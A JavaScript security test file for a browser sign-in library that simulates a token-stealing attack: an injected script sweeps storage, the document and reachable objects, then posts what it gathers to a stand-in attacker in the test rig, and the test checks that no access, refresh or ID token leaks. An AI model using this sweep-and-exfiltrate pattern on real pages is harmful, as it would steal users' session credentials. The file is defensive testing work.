// T1: what a script finds that looks everywhere. It finds no token in any way of running, because no property leads to one.

import assert from "node:assert/strict";

import { readPlaces } from "../browser/support/leaks.mjs";
import { send } from "../browser/support/calls.mjs";
import { attack } from "./support/attack.mjs";
import { reachable, watch } from "./scripts/sweep.mjs";

const tokens = ["access token", "refresh token", "ID token"];

attack(
  {
    id: "T1",
    threat: "S1",
    title: "walk all stores, the history, the document and every object that can be reached (STORE-1, STORE-2, STORE-3, STORE-12)",
    when: ["late", "early"],
    outcome: "stopped",
  },
  async (rig) => {
    const page = await rig.signedInWith(watch);
    await useApi(rig, page);
    await sweep(rig, page);
    assert.deepEqual(rig.found(rig.console.join("\n")), [], "the console tells a secret");
    return rig.verdict(...tokens, "code verifier");
  },
);

attack(
  {
    id: "T1",
    threat: "S1",
    title: "the same from another document of the origin (STORE-1, STORE-3)",
    outcome: "stopped",
  },
  async (rig) => {
    await useApi(rig, await rig.signedIn());
    await sweep(rig, await rig.open("/bare.html"));
    return rig.verdict(...tokens, "code verifier");
  },
);

/** The app works, and keeps what it got: answers and errors. */
async function useApi(rig, page) {
  assert.equal((await send(page, rig.v1("files"))).value.status, 200);
  await page.evaluate(
    async ([files, redirect]) => {
      const { auth, outcome } = globalThis.app;
      const answer = await auth.fetch(files);
      const own = await outcome(() => auth.fetch(files, { headers: { authorization: "Bearer mine" } }));
      const redirected = await outcome(() => auth.fetch(redirect));
      const [stats, audit] = [await auth.stats(), await auth.audit()];
      globalThis.kept = { answer, copy: answer.clone(), headers: [...answer.headers], own, redirected, stats, audit };
    },
    [rig.v1("files"), rig.v1("redirect")],
  );
}

/** Sends the attacker all that there is; what it must have seen shows that it looked. */
async function sweep(rig, page) {
  await page.evaluate(() => {
    localStorage.setItem("bait", "bait-in-storage");
    globalThis.bait = { deep: { list: new Map([["key", ["bait-in-object"]]]) } };
  });
  const places = await page.evaluate(readPlaces);
  const { text, objects } = await rig.inject(page, reachable);
  await rig.inject(page, (evil, loot) => void evil.post(loot), JSON.stringify([places, text]));
  await rig.arrived(page);
  const loot = rig.evil.loot().join("\n");
  for (const bait of ["bait-in-storage", "bait-in-object"]) assert.ok(loot.includes(bait), `the sweep missed ${bait}`);
  assert.ok(objects > 5_000, `the sweep saw ${objects} objects only`);
}
